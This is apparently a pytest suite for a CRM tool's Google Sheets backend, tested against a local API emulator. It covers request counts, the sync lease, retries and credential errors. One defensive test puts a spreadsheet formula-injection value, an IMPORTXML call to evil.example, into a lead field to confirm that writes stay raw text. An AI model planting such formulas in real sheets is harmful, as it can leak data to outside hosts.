"""The Google Sheets backend against the local Sheets API stand-in (real HTTP on loopback):
request budget, RAW writes, provisioning, the lease, errors and bounded retries."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from google.auth.credentials import AnonymousCredentials

from sheetcrm.backends import google, open_backend
from sheetcrm.backends.apply import sync_once
from sheetcrm.backends.google import GoogleBackend
from sheetcrm.backends.sheets_address import spreadsheet_id
from sheetcrm.backends.sheets_http import SheetsHTTP
from sheetcrm.backends.sheets_lease import LEASE_TAB
from sheetcrm.emulator.faults import DROP_AFTER
from sheetcrm.engine.changes import Changes
from sheetcrm.engine.schema import LEADS
from sheetcrm.errors import BackendError
from sheets import NOW, emulator, google_backend, human_edit, template

CLOCK = datetime(2026, 11, 23, 15, 0, tzinfo=UTC)


def _fresh(backend: GoogleBackend) -> GoogleBackend:
    """The same sheet through a new backend: what a new process (cron, CLI) starts with."""
    return GoogleBackend(backend.location, http=backend.http)


def _book(backend: GoogleBackend):
    return emulator().store[backend.id]


def test_sheet_locations():
    sid = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abcd"
    assert spreadsheet_id(f"https://docs.google.com/spreadsheets/d/{sid}/edit#gid=0") == sid
    assert spreadsheet_id(sid) == sid
    assert spreadsheet_id("crm.xlsx") is None
    assert type(open_backend("crm.xlsx")).__name__ == "WorkbookBackend"


SYNC_WITH_METRICS = {
    # the read (values); the lease, whose batchUpdate answers with what a write needs of the
    # sheet (tab IDs, grids, charts); one batchUpdate that grows grids, sets formats and
    # charts, and answers with the service columns and the lease, to plan again if a person
    # sorted meanwhile; one write of cells, History rows and the lease's release; and a read
    # back to check that every cell landed on its lead (engine/landing.py)
    "values.batchGet": 2,
    "spreadsheets.batchUpdate": 2,
    "values.batchUpdate": 1,
}
NOTHING_TO_WRITE = {"values.batchGet": 1, "spreadsheets.batchUpdate": 1, "values.update": 1}


def _with_leads(count: int) -> dict:
    tabs = template()
    leads = tabs[LEADS.name]
    assert not any(leads.column("Lead ID")) and len(leads.rows) == 50
    for i in range(count - len(leads.rows)):
        row = [""] * len(leads.header)
        row[leads.col("Email")] = f"lead{i}@firm{i}.example"
        leads.rows.append(row)
    return tabs


def _costs(backend: GoogleBackend, day: int = 23) -> tuple[dict[str, int], object]:
    """Requests of one sync by a new process, by endpoint, and what it wrote."""
    emulator().reset_stats()
    plan, report = sync_once(_fresh(backend), NOW.replace(day=day), CLOCK)
    assert emulator().stats()["total"] <= 5
    return emulator().stats()["byEndpoint"], (plan, report)


@pytest.mark.parametrize("new_rows", [50, 2000])  # 2,000: History outgrows a 1000-row grid
def test_a_sync_costs_at_most_five_requests_whatever_changes(new_rows):
    backend = google_backend(_with_leads(new_rows))
    cost, (_, report) = _costs(backend)
    assert report.cells > 100 and report.replaced
    assert cost == SYNC_WITH_METRICS
    cost, (_, again) = _costs(backend)
    assert again.cells == 0 and not again.written
    assert cost == NOTHING_TO_WRITE
    # a day later only figures change, and the metric tabs are rewritten
    human_edit(backend, LEADS.name, lambda t: t.rows[0].__setitem__(t.col("Stage"), "Won"))
    cost, (plan, later) = _costs(backend, day=24)
    assert "Dashboard" in plan.replace and later.cells > 0
    assert cost == SYNC_WITH_METRICS
    # a person deleted a chart: it is added back in the same batchUpdate
    book = _book(backend)
    book.sheet("Dashboard").charts.clear()
    human_edit(backend, LEADS.name, lambda t: t.rows[1].__setitem__(t.col("Stage"), "Won"))
    cost, _ = _costs(backend, day=25)
    assert cost == SYNC_WITH_METRICS
    assert book.sheet("Dashboard").charts


def test_a_large_sheet_s_write_checks_by_a_values_read_and_no_more_writes(monkeypatch):
    """Past CHECK_CELLS_IN_ANSWER service cells, the check would come back as grid data (a
    wrapped object per cell, seconds at 50,000 leads): it is a values read of its own after
    the grids grow, one read more and the same writes."""
    backend = google_backend(_with_leads(2000))
    small, _ = _costs(backend)
    monkeypatch.setattr(google, "CHECK_CELLS_IN_ANSWER", 2000 * 5)
    large = google_backend(_with_leads(2000))
    emulator().reset_stats()
    sync_once(_fresh(large), NOW.replace(day=23), CLOCK)
    cost = emulator().stats()["byEndpoint"]
    assert cost == {**small, "values.batchGet": small["values.batchGet"] + 1}
    assert large.read().table(LEADS.name).rows == backend.read().table(LEADS.name).rows


def test_a_sync_that_adds_a_tab_costs_at_most_five_requests():
    """The read names a tab that is gone: Google answers 400, and one spreadsheets.get
    brings every tab's values and what the write needs; the tab is added back with its
    formats and charts in the write's one batchUpdate."""
    backend = google_backend(_with_leads(50))
    sync_once(_fresh(backend), NOW, CLOCK)
    book = _book(backend)
    book.delete_sheet(book.sheet("Dashboard").sheet_id)
    cost, (plan, report) = _costs(backend)
    assert "Dashboard" in plan.replace and report.cells == 0
    assert cost == {
        "values.batchGet": 1,
        "spreadsheets.get": 1,
        "spreadsheets.batchUpdate": 2,
        "values.batchUpdate": 1,
    }
    assert book.sheet("Dashboard").charts and book.sheet("Dashboard").row_count > 1


def test_the_lease_tab_is_found_by_its_noted_id_and_never_confused_with_another_tab():
    """The lease is written by sheetId (sheets_lease.py). A tab made elsewhere has an ID
    sheetcrm cannot guess: the first sync looks it up once (one request more) and notes it
    in C1; an ID that names another tab writes nothing there."""
    backend = google_backend(_with_leads(50))
    book = _book(backend)
    book.delete_sheet(book.sheet(LEASE_TAB).sheet_id)
    book.add_sheet(LEASE_TAB, 1000, 26, None, 424242, {"hidden": True})
    emulator().reset_stats()
    sync_once(_fresh(backend), NOW, CLOCK)
    assert emulator().stats()["total"] == 7  # the guess refused (400), a look, the lease again
    assert book.sheet(LEASE_TAB).values()[0] == ["", "", "424242"]
    cost, _ = _costs(backend)
    assert cost == NOTHING_TO_WRITE
    leads_id = book.sheet(LEADS.name).sheet_id
    book.sheet(LEASE_TAB).set_values("C1", [[str(leads_id)]])
    header = book.sheet(LEADS.name).values()[0]
    sync_once(_fresh(backend), NOW, CLOCK)
    assert book.sheet(LEADS.name).values()[0] == header
    assert book.sheet(LEASE_TAB).values()[0] == ["", "", "424242"]


def test_every_write_is_raw_so_text_never_becomes_a_formula():
    tabs = template()
    t = tabs[LEADS.name]
    t.rows[0][t.col("Company")] = '=IMPORTXML("http://evil.example","//a")'
    t.rows[1][t.col("Phone")] = "0612345678"
    backend = google_backend(tabs)
    sync_once(backend, NOW, CLOCK)
    book = _book(backend)
    for request in book.log:
        assert "USER_ENTERED" not in str(request)
    snapshot = backend.read()
    leads = snapshot.table(LEADS.name)
    assert leads.rows[0][leads.col("Company")] == '=IMPORTXML("http://evil.example","//a")'
    assert leads.rows[1][leads.col("Phone")] == "0612345678"  # never numericised
    assert leads.rows[0][leads.col("Score")].lstrip("-").isdigit()


def test_provisioning_twice_changes_nothing():
    backend = google_backend()
    sheet = _book(backend).sheet(LEADS.name)
    rules, protected = len(sheet.conditional_formats), len(sheet.protected_ranges)
    assert rules == 5 and protected >= 10
    before = backend.read()
    backend.provision(template())
    assert len(sheet.conditional_formats) == rules
    assert len(sheet.protected_ranges) == protected
    assert backend.read().tabs == before.tabs
    assert all(r["warningOnly"] for r in sheet.protected_ranges)


def test_provisioning_a_sheet_whose_leads_tab_is_sheet_zero():
    emu = emulator()
    book = emu.store.create("crm", sheets=("Leads",))
    http = SheetsHTTP(AnonymousCredentials(), emulator_host=emu.host, sleep=lambda _: None)
    backend = GoogleBackend(book.spreadsheet_id, http=http)
    backend.provision(template())
    backend.provision(template())
    assert len(book.sheet(LEADS.name).conditional_formats) == 5


def test_a_person_sorting_mid_sync_is_planned_against():
    backend = google_backend()
    sync_once(backend, NOW, CLOCK)
    book = _book(backend)
    leads = book.sheet(LEADS.name)

    def person_edits(store):
        row = leads.values()[3]  # a person moves lead 3 to Won, then sorts by company
        leads.set_values("K4", [["Won"]])
        leads.sort_rows("Company", descending=True)
        assert row

    emulator().before_request(person_edits, when=lambda info: info.kind == "write")
    sync_once(_fresh(backend), NOW + timedelta(hours=1), CLOCK)
    snapshot = backend.read()
    table = snapshot.table(LEADS.name)
    ids = table.column("Lead ID")
    assert len(ids) == len(set(ids)) == 50
    # the next sync sees the stage change and stamps it on the right lead
    sync_once(_fresh(backend), NOW + timedelta(hours=2), CLOCK)
    table = backend.read().table(LEADS.name)
    won = [
        r
        for r in table.rows
        if r[table.col("Stage")] == "Won" and r[table.col("Closed at")] == "2026-11-23 12:00"
    ]
    assert len(won) == 1


def test_one_sync_at_a_time():
    backend = google_backend()
    sync_once(backend, NOW, CLOCK)
    until = (CLOCK + timedelta(minutes=5)).isoformat(timespec="seconds")
    _book(backend).sheet(LEASE_TAB).set_values("A1", [["cron-7", until]])
    with pytest.raises(BackendError, match=r"another sync \(cron-7\) is running"):
        sync_once(_fresh(backend), NOW, CLOCK)
    # a lease left by a crash expires on its own
    sync_once(_fresh(backend), NOW, CLOCK + timedelta(minutes=6))
    held = _book(backend).sheet(LEASE_TAB).values()
    assert held[0][:2] == ["", ""]  # given back; C1 keeps the tab's own ID


def test_a_sync_taken_over_mid_way_writes_nothing():
    backend = google_backend()
    sheet = _book(backend).sheet(LEASE_TAB)
    updates = []

    def last_check(info) -> bool:  # the batchUpdate just before the cells, after the lease's
        if info.endpoint == "spreadsheets.batchUpdate":
            updates.append(info)
        return len(updates) == 2

    emulator().before_request(
        lambda store: sheet.set_values("A1", [["other", "2099-01-01T00:00:00+00:00"]]),
        when=last_check,
    )
    before = backend.read().table(LEADS.name)
    updates.clear()
    with pytest.raises(BackendError, match="took over"):
        sync_once(_fresh(backend), NOW, CLOCK)
    assert backend.read().table(LEADS.name) == before


def test_a_write_planned_again_adds_each_chart_once():
    """The write's batchUpdate adds charts, then finds that a person typed in a service
    column meanwhile: the sync reads and writes again, and asks which charts there are now
    instead of adding them a second time."""
    backend = google_backend()
    book = _book(backend)
    leads = book.sheet(LEADS.name)
    updates = []

    def layout(info) -> bool:  # the batchUpdate with formats and charts, after the lease's
        if info.endpoint == "spreadsheets.batchUpdate":
            updates.append(info)
        return len(updates) == 2

    owner = leads.values()[0].index("Owner")
    emulator().before_request(
        lambda _store: leads.set_values(f"{chr(65 + owner)}2", [["Someone"]]), when=layout
    )
    _, report = sync_once(_fresh(backend), NOW, CLOCK)
    assert report.attempts == 2  # the check failed, and the write was planned again
    assert book.sheet("Dashboard").charts
    for sheet in book.sheets:
        titles = [c["spec"]["title"] for c in sheet.charts]
        assert len(titles) == len(set(titles)), (sheet.title, titles)
    assert backend.read().table(LEADS.name).rows[0][owner] == "Someone"


def test_not_shared_and_wrong_id_say_what_to_do():
    backend = google_backend(provision=False)
    _book(backend).shared = False
    with pytest.raises(BackendError) as denied:
        backend.read()
    assert "share the sheet with" in denied.value.hint and "Editor" in denied.value.hint
    http = backend.http
    missing = GoogleBackend("1" + "x" * 43, http=http)
    with pytest.raises(BackendError) as unknown:
        missing.read()
    assert "no spreadsheet with ID" in unknown.value.message
    assert "docs.google.com/spreadsheets/d/" in unknown.value.hint


def test_missing_credentials_say_what_to_do(monkeypatch, tmp_path):
    monkeypatch.delenv("SHEETS_EMULATOR_HOST", raising=False)
    missing = tmp_path / "no-such-key.json"
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(missing))
    with pytest.raises(BackendError) as caught:
        GoogleBackend("1" + "y" * 43)
    # a path set but wrong is named, not taken for no credentials at all
    assert caught.value.message == (
        f"GOOGLE_APPLICATION_CREDENTIALS names {missing}, which does not exist"
    )
    assert "service account" in caught.value.hint


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("not json at all", "is not a valid json file"),
        ('{"type": "nothing-google-knows"}', "does not have a valid type"),
        ('{"type": "service_account", "client_email": "a@b.c", "private_key": "PRIVATEKEY"}', ""),
        (None, "which is a folder, not a key file"),
    ],
)
def test_credentials_that_are_not_a_key_are_named(monkeypatch, tmp_path, content, said):
    monkeypatch.delenv("SHEETS_EMULATOR_HOST", raising=False)
    key = tmp_path / "key.json"
    if content is None:
        key.mkdir()
    else:
        key.write_text(content)
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(key))
    with pytest.raises(BackendError) as caught:
        GoogleBackend("1" + "y" * 43)
    assert f"GOOGLE_APPLICATION_CREDENTIALS names {key}, which " in caught.value.message
    assert said in caught.value.message and "PRIVATEKEY" not in str(caught.value)
    if content is not None:
        assert "is not a service-account key" in caught.value.message


def test_transient_errors_are_retried_a_bounded_number_of_times():
    backend = google_backend()
    emu = emulator()
    emu.inject(503, 429, "drop")
    assert backend.read().get(LEADS.name) is not None  # the fourth try answers
    waits: list[float] = []
    http = SheetsHTTP(
        AnonymousCredentials(), emulator_host=emu.host, attempts=4, sleep=waits.append
    )
    stubborn = GoogleBackend(backend.location, http=http)
    emu.inject(*[503] * 4)
    with pytest.raises(BackendError, match="503"):
        stubborn.read()
    assert len(waits) == 3  # 4 tries, 3 pauses
    assert all(0 < w <= 16 for w in waits) and waits[0] < waits[-1]
    emu.limits.clear_injected()  # nothing left over for other tests


def test_the_commands_work_on_a_google_sheet(monkeypatch, capsys, tmp_path):
    from sheetcrm.cli import main

    emu = emulator()
    monkeypatch.setenv("SHEETS_EMULATOR_HOST", emu.host)  # Google's convention for emulators
    book = emu.store.create("crm", sheets=("Sheet1",))
    url = f"https://docs.google.com/spreadsheets/d/{book.spreadsheet_id}/edit"
    assert main(["init", "--sheet", url, "--now", "2026-11-23T10:00"]) == 0
    assert main(["sync", "--sheet", url, "--now", "2026-11-23T10:00"]) == 0
    assert "50 rows read, 50 new IDs" in capsys.readouterr().out
    export = tmp_path / "more.csv"
    export.write_text("Email,Country\nnew.lead@fresh.example,France\n", encoding="utf-8")
    assert (
        main(["import", str(export), "--sheet", book.spreadsheet_id, "--now", "2026-11-23T10:05"])
        == 0
    )
    assert main(["sync", "--sheet", url, "--now", "2026-11-23T10:05"]) == 0
    assert "Nothing to change" in capsys.readouterr().out
    leads = book.sheet(LEADS.name).values()
    assert leads[-1][0] == "L-00051" and "new.lead@fresh.example" in leads[-1]


def before_append(fault) -> None:
    """Fail the append with ``fault``: the write's last look at the sheet comes just before."""
    emulator().before_request(
        lambda _store: emulator().inject(fault),
        when=lambda info: info.endpoint == "values.batchGet",
    )


@pytest.mark.parametrize("fault", [DROP_AFTER, 503])
def test_an_append_whose_answer_is_lost_is_never_sent_again(fault):
    """A dropped answer may hide an append that happened: sending it again could add the
    leads twice. The write fails instead, and the caller checks the sheet (web-form leads
    carry their Submission ID) before it tries again."""
    backend = google_backend()
    snapshot = backend.read()
    leads = snapshot.table(LEADS.name)
    row = [""] * len(leads.header)
    row[leads.col("Email")] = "new@lead.example"
    row[leads.col("Amount")] = "1200"
    before_append(fault)
    with pytest.raises(BackendError, match="append"):
        backend.write(Changes(snapshot.version, appends={LEADS.name: [row]}))
    after = backend.read().table(LEADS.name)
    expected = 1 if fault == DROP_AFTER else 0  # carried out once, or not at all
    assert after.column("Email").count("new@lead.example") == expected
    # a 429 says the request was refused before any work: that one is retried
    before_append(429)
    backend.write(Changes(backend.read().version, appends={LEADS.name: [row]}))
    final = backend.read().table(LEADS.name)
    assert final.column("Email").count("new@lead.example") == expected + 1
    # numbers in number columns arrive as numbers, not as text that looks like one
    sheet = _book(backend).sheet(LEADS.name)
    amounts = [sheet.cell(r, leads.col("Amount")) for r in range(1, len(final.rows) + 1)]
    assert 1200 in amounts


def test_a_read_holds_each_distinct_text_once():
    # the JSON parser makes a string per cell: a 100,000-lead sheet would hold its Stage,
    # Owner and dates 100,000 times over (engine/table.py shared_texts)
    backend = google_backend(template())
    cells = [c for t in backend.read().tabs.values() for row in t.rows for c in row]
    assert len(set(cells)) < len(cells) / 2  # texts repeat: stages, owners, dates, IDs
    assert len({id(c) for c in cells}) == len(set(cells))
